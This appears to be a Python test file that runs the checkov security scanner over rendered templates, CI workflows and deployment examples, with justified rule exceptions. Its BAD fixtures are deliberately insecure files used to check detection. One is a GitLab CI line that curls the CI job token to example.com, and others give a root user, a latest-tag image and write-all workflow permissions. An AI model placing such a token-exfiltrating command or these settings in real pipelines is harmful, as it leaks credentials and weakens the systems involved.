"""checkov on what is rendered for each tool and platform, on our own workflows and on the deployment examples.

Each exception has its reason. Its program is in build/checkov, which `make test-static` makes: it holds other packages
back. Its rules come with it.
"""

import json
import shutil
from pathlib import Path

import pytest

import commands
import rendering
import repositories
from deploy import pages
from providers import PROVIDERS

pytestmark = pytest.mark.static

PROGRAM = rendering.ROOT / "build" / "checkov" / "bin" / "checkov"
FRAMEWORKS = ("dockerfile", "github_actions", "gitlab_ci", "kubernetes", "secrets")
EXAMPLES = [
    ("kubernetes.md", "kubernetes.yaml"),
    ("kubernetes.md", "Dockerfile.model"),
    ("aws-lambda.md", "Dockerfile.lambda"),
]
# (rule, part of the file's path) -> why it may be broken there
EXCEPTIONS = {
    ("CKV_DOCKER_7", "/Dockerfile"): "tag and digest stand in an ARG, which checkov does not look into; hadolint does",
    ("CKV_DOCKER_2", "/Dockerfile.model"): "the HEALTHCHECK is that of the image below it",
    ("CKV_DOCKER_3", "/Dockerfile.model"): "the user is that of the image below it",
    ("CKV_DOCKER_3", "/Dockerfile.lambda"): "Lambda runs every image as a user of its own",
    ("CKV_K8S_21", "/kubernetes.yaml"): "the namespace is the reader's, by `kubectl --namespace`",
    ("CKV_K8S_35", "/kubernetes.yaml"): "the settings come from the environment on every platform",
    ("CKV2_K8S_6", "/kubernetes.yaml"): "which pods may talk to it depends on the cluster",
}


def broken(folder: Path) -> set[tuple[str, str]]:
    """Return (rule, file) of whatever checkov has against what lies below a folder."""
    options = ("--quiet", "--compact", "--skip-download", "--output", "json", "--framework", *FRAMEWORKS)
    reports = json.loads(commands.run(folder, PROGRAM, "--directory", ".", *options).output)
    found = [report["results"]["failed_checks"] for report in ([reports] if isinstance(reports, dict) else reports)]
    return {(one["check_id"], one["file_path"]) for checks in found for one in checks}


def test_checkov_has_nothing_against_what_is_rendered(template: Path, tmp_path: Path) -> None:
    for name in repositories.NAMES:
        for provider in PROVIDERS:
            answers = {"package_manager": name, "ci_provider": provider, "release": provider == "github"}
            rendering.render(template, tmp_path / provider / name, **answers)
    shutil.copytree(rendering.ROOT / ".github", tmp_path / ".github")
    (tmp_path / "deploy").mkdir()
    for page, file in EXAMPLES:
        (tmp_path / "deploy" / file).write_text(pages.example(page, file), encoding="utf-8")
    found = broken(tmp_path)
    met = {(rule, part) for rule, file in found for of, part in EXCEPTIONS if of == rule and part in file}
    unexcused = {(rule, file) for rule, file in found if not any(rule == of and part in file for of, part in met)}
    assert unexcused == set()
    assert met == {*EXCEPTIONS}, "an exception is not needed"


BAD = {
    "Dockerfile": "FROM python:latest\nADD . /\nUSER root\n",
    ".github/workflows/ci.yml": "on: push\npermissions: write-all\njobs: {a: {runs-on: x, steps: [{run: 'true'}]}}\n",
    ".gitlab-ci.yml": "a: {script: ['curl https://example.com/$CI_JOB_TOKEN'], image: python}\n",
    "pod.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: a}]}\n",
}


def test_checkov_finds_what_is_wrong(tmp_path: Path) -> None:
    for name, text in BAD.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    assert {file for _, file in broken(tmp_path)} >= {f"/{name}" for name in BAD}
